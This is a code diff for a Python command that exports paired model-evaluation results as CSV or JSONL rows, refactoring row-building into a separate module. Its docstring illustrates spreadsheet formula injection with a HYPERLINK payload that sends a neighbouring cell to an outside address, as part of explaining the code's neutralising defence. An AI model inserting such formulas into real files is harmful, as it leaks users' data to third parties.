@@ -5,10 +5,9 @@ is executed as a formula when the file is opened in a spreadsheet, and model out
 control (``=HYPERLINK("http://...?"&A1)`` would send a neighbouring cell away). Following OWASP's advice such
 cells get a leading single quote, which spreadsheets show as text. JSONL stays verbatim (it is for programs).
 
-Why flat rows: a spreadsheet or ``pandas.read_csv`` cannot filter on JSON inside a cell, so every metric is a
-column of its own (``metric_<name>``; the union over the rows, empty where a row has no such metric), in CSV and
-JSONL alike. The aggregate numbers are ``compare``'s own (``analysis.paired.compare_pairs``), never recomputed
-another way.
+Which rows (one per item, or compare's numbers with ``--aggregate``) is analysis/export.py's; this command turns
+options into that call and writes the rows: every column of every row, in first-seen order, in CSV and JSONL
+alike.
 """
 
 from __future__ import annotations
@@ -16,21 +15,15 @@ from __future__ import annotations
 import csv
 import json
 import sys
-from collections.abc import Collection, Sequence
 from pathlib import Path
 from typing import IO, Any
 
 import click
-import sqlite_utils
 
-from ..analysis.pair_sources import PairSource, check_models
-from ..analysis.paired import MetricComparison, PairReport, compare_pairs
-from ..analysis.pairing import pair_evaluations, pairing_columns
+from ..analysis.export import aggregate_rows, item_rows
+from ..analysis.pair_sources import check_models
 from ..gates.files import atomic_open, check_output_target, database_files
-from ..gates.stored import load_metrics
 from ..store.database import reading
-from ..store.queries import INPUT_COLUMNS, evaluation_keys, item_rows, model_tasks, summarize_evaluation
-from ..tasks.base import OUTCOMES
 from .common import db_option, pair_options, selected_pairs, split_commas, task_option
 from .declare import OutputPath, declare
 from .limits import RESAMPLES, STATS_SEED
@@ -46,113 +39,6 @@ def neutralise_cell(value: Any) -> Any:
     if isinstance(value, str) and value.startswith(FORMULA_STARTS):
         return "'" + value
     return value
-
-
-def compared_roles(db: sqlite_utils.Database, pair_list: Sequence[PairSource]) -> dict[str, list[tuple[str, str]]]:
-    """Evaluation key -> [(pair name, role)] for every evaluation that ``compare`` compares in these pairs
-    (the pairing rule of analysis/pairing.py; superseded evaluations are not compared)."""
-    ran = model_tasks(db)
-    found: dict[str, list[tuple[str, str]]] = {}
-    for pair in pair_list:
-        tasks = {t for m, t in ran if m == pair.biomedical} & {t for m, t in ran if m == pair.general}
-        for task in sorted(tasks):
-            for group in pair_evaluations(db, pair.biomedical, pair.general, task)[0]:
-                found.setdefault(group.biomedical, []).append((pair.name, "biomedical"))
-                found.setdefault(group.general, []).append((pair.name, "general"))
-    return found
-
-
-def _keep(model_id: str, task: str, models: Collection[str], tasks: Collection[str]) -> bool:
-    return (not models or model_id in models) and (not tasks or task in tasks)
-
-
-def _item_rows(db: sqlite_utils.Database, pair_list: Sequence[PairSource], only_pairs: bool, models: Collection[str],
-               tasks: Collection[str], omit_inputs: bool) -> list[dict[str, Any]]:
-    """One row per item of an evaluation, and per pair that compares the evaluation (pair, role); evaluations no
-    pair compares appear once with an empty pair and their stored role, unless pairs were asked for."""
-    roles = compared_roles(db, pair_list)
-    data = pairing_columns(db, pair_list)
-    rows: list[dict[str, Any]] = []
-    for item in item_rows(db):
-        score_row = item.pop("score_row")
-        if not _keep(item["model_id"], item["task"], models, tasks):
-            continue
-        metrics = load_metrics(item.pop("metrics"), score_row)
-        stored_role = item.pop("evaluation_role")
-        if omit_inputs:
-            for column in INPUT_COLUMNS:
-                item.pop(column, None)
-        where = data.get(item["evaluation"], {})
-        sides = roles.get(item["evaluation"]) or ([] if only_pairs else [(None, stored_role)])
-        for pair, role in sides:
-            rows.append({"pair": pair, "role": role, **item, "data_name": where.get("data_name"),
-                         "data_sha256": where.get("data_sha256"),
-                         **{f"metric_{name}": value for name, value in metrics.items()}})
-    return rows
-
-
-def _group_columns(row: MetricComparison) -> dict[str, Any]:
-    return {"task": row.task, "data_name": None if row.data is None else row.data.name,
-            "data_sha256": None if row.data is None else row.data.sha256,
-            "scoring_mode": "generate" if row.data is None else row.data.mode,
-            "different_data": row.different_data}
-
-
-def comparison_rows(reports: list[PairReport]) -> list[dict[str, Any]]:
-    """compare's numbers as flat rows: per pair x role x task x data x mode, each metric's estimate with its 95%
-    CI ("model" rows); per pair x task x data x mode, each metric's difference with its CI, test, p-values (numbers,
-    unrounded, for analysis) and compare's verdict in words ("delta")."""
-    rows: list[dict[str, Any]] = []
-    for report in reports:
-        groups: dict[tuple[str, str, str], list[MetricComparison]] = {}
-        for row in report.rows:
-            groups.setdefault((row.group_label, row.evaluations["biomedical"], row.evaluations["general"]),
-                              []).append(row)
-        for group in groups.values():
-            first = group[0]
-            for role, model in (("biomedical", report.biomedical_model), ("general", report.general_model)):
-                line: dict[str, Any] = {"row": "model", "pair": report.pair, "role": role, "model_id": model,
-                                        "evaluation": first.evaluations[role], **_group_columns(first),
-                                        "n": max(r.n for r in group)}
-                for r in group:
-                    interval = getattr(r, role)
-                    line.update({f"metric_{r.metric}": interval.estimate, f"metric_{r.metric}_ci_low": interval.low,
-                                 f"metric_{r.metric}_ci_high": interval.high, f"metric_{r.metric}_n": r.n})
-                line.update({f"n_{k}": first.outcomes.get(role, {}).get(k, 0) for k in OUTCOMES})
-                line["truncated_rate"] = first.truncated_rate.get(role)
-                rows.append(line)
-            delta: dict[str, Any] = {"row": "delta", "pair": report.pair, "biomedical_model": report.biomedical_model,
-                                     "general_model": report.general_model,
-                                     "biomedical_evaluation": first.evaluations["biomedical"],
-                                     "general_evaluation": first.evaluations["general"], **_group_columns(first),
-                                     "n": max(r.n for r in group)}
-            for r in group:
-                delta.update({f"delta_{r.metric}": r.delta.estimate, f"delta_{r.metric}_ci_low": r.delta.low,
-                              f"delta_{r.metric}_ci_high": r.delta.high, f"delta_{r.metric}_n": r.n,
-                              f"delta_{r.metric}_test": r.test, f"delta_{r.metric}_p": r.p_value,
-                              f"delta_{r.metric}_p_adjusted": r.p_adjusted,
-                              f"delta_{r.metric}_ahead": r.ahead, f"delta_{r.metric}_verdict": r.verdict})
-            rows.append(delta)
-    return rows
-
-
-def _aggregate_rows(db: sqlite_utils.Database, pair_list: Sequence[PairSource], only_pairs: bool,
-                    models: Collection[str], tasks: Collection[str], resamples: int, seed: int) -> list[dict[str, Any]]:
-    reports = compare_pairs(db, pair_list, task_filter=tuple(tasks), resamples=resamples, seed=seed)
-    rows = [row for row in comparison_rows(reports)
-            if not models or {row.get("model_id"), row.get("biomedical_model"), row.get("general_model")} & set(models)]
-    pairing = pairing_columns(db, pair_list)  # the same pairing rule as compare: data, pair, counterpart, status
-    compared = compared_roles(db, pair_list)
-    for key in evaluation_keys(db):
-        s = summarize_evaluation(db, key)
-        if not _keep(s.model_id, s.task, models, tasks) or (only_pairs and key not in compared):
-            continue
-        where = pairing.get(key, {})
-        role = next((r for name, r in compared.get(key, []) if name == where.get("pair")), None)
-        rows.append({"row": "evaluation", "role": role, "model_id": s.model_id, "model_sha256": s.model_sha256, "task": s.task,
-                     "evaluation": s.key, "n": s.n, **{f"metric_{k}": v for k, v in s.metrics.items()},
-                     **{f"n_{k}": s.outcomes.get(k, 0) for k in OUTCOMES}, **where})
-    return rows
 
 
 def _columns(rows: list[dict[str, Any]]) -> list[str]:
@@ -231,8 +117,8 @@ def export_command(db_path: Path, fmt: str, aggregate: bool, pair_filter: tuple[
         selection = selected_pairs(db, db_path, config_path, pair_filter, model_pair, task_ids)
         check_models(db, model_filter, str(db_path))
         only_pairs = bool(pair_filter or model_pair)
-        rows = _aggregate_rows(db, selection.pairs, only_pairs, model_filter, task_ids, resamples, seed) \
-            if aggregate else _item_rows(db, selection.pairs, only_pairs, model_filter, task_ids, omit_inputs)
+        rows = aggregate_rows(db, selection.pairs, only_pairs, model_filter, task_ids, resamples, seed) \
+            if aggregate else item_rows(db, selection.pairs, only_pairs, model_filter, task_ids, omit_inputs)
     if out_path is None:
         _write(rows, fmt, sys.stdout)
         return
